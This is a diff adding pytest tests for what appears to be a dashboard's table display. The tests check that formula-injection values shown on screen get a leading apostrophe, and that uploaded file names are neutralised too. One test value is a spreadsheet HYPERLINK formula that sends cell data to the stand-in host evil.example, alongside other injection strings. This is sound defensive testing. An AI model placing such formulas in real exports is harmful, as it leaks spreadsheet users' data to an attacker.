@@ -1,0 +1,75 @@
+"""Tables on screen are neutralised as the downloads are, since the toolbar's own CSV writes what they show."""
+
+import ast
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from etl.loader import load_return
+from tests.upload_support import (
+    PROGRAM,
+    ROOT,
+    app,
+    filled_return,
+    seed_warehouse,
+)
+from ui.downloads import safe_frame
+from ui.tables import shown
+from warehouse.connection import connection
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
+
+
+def test_shown_neutralises_text_like_the_downloads_and_keeps_numbers():
+    df = pd.DataFrame(
+        {
+            "파일": [FORMULA, "+1", "-x", "@sum", "\tx", "ok", None],
+            "행 수": [1, 2, 3, 4, 5, 6, 7],
+            2024: [0.5] * 7,
+        }
+    )
+    out = shown(df)
+    assert out["파일"].tolist()[:6] == safe_frame(df)["파일"].tolist()[:6]
+    assert out["파일"].tolist()[:5] == ["'" + v for v in df["파일"].tolist()[:5]]
+    assert out["파일"].iloc[5] == "ok" and pd.isna(out["파일"].iloc[6])
+    assert out["행 수"].tolist() == df["행 수"].tolist() and pd.api.types.is_integer_dtype(out["행 수"])
+    assert list(out.columns) == ["파일", "행 수", 2024]  # headers that are not text stay as they are
+    assert shown(pd.DataFrame({"=cmd": [1]})).columns[0] == "'=cmd"
+
+
+def test_no_page_calls_st_dataframe_around_ui_tables():
+    """Every table goes through ui.tables.show (a new st.dataframe elsewhere would bypass it)."""
+    offenders = []
+    for path in [*ROOT.glob("views/*.py"), *ROOT.glob("ui/*.py"), ROOT / "dashboard.py"]:
+        if path.name == "tables.py":
+            continue
+        for node in ast.walk(ast.parse(path.read_text())):
+            if isinstance(node, ast.Attribute) and node.attr == "dataframe":
+                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
+    assert not offenders
+
+
+@pytest.fixture
+def db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    path = tmp_path / "warehouse.duckdb"
+    seed_warehouse(path, tmp_path)
+    fixed = tmp_path / "fixed.xlsx"
+    filled_return(
+        fixed, [["주베트남 대사관", "K-뷰티", PROGRAM, 11, 20, 2, 100.0]], year=2026, quarter=1, agency="mofa"
+    )
+    with connection(path) as con:
+        load_return(con, fixed, loaded_by="@SUM(1+1)", display_name=f"{FORMULA}.xlsx")
+    monkeypatch.setenv("DASHBOARD_DB", str(path))
+    monkeypatch.setenv("DASHBOARD_ROLE", "admin")
+    monkeypatch.setenv("DASHBOARD_USER", "admin@mss.test")
+    return path
+
+
+def test_history_table_shows_a_formula_file_name_neutralised(db):
+    at = app("views/history.py")
+    assert not at.exception
+    table = at.dataframe[0].value
+    assert table["파일"].iloc[0] == f"'{FORMULA}.xlsx"
+    assert table["적재자"].iloc[0] == "'@SUM(1+1)"
+    assert table["행 수"].tolist() == [4, 4]  # numbers stay numbers
